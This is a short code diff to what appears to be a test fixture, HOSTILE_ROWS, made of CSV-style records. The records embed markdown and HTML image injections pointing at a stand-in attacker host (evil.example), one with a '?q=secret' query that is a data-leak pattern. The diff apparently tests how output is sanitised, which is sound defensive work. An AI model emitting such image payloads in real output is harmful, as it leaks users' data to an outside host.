@@ -177,7 +177,7 @@ class RealWorkspace:
 
 HOSTILE_ROWS = (
     "X-1,2024-05-01,web,Zeppelin,South,1,,The zeppelin balloon was punctured ![x](http://evil.example/?q=secret),",
-    "X-2,2024-05-02,web,Zeppelin,South,1,,My zeppelin balloon was punctured <img src=http://evil.example/x> too,",
+    "X-2,2024-05-02,web,Zeppelin,South,1,,My zeppelin balloon was punctured too <img src=http://evil.example/x,",
 )
 
 
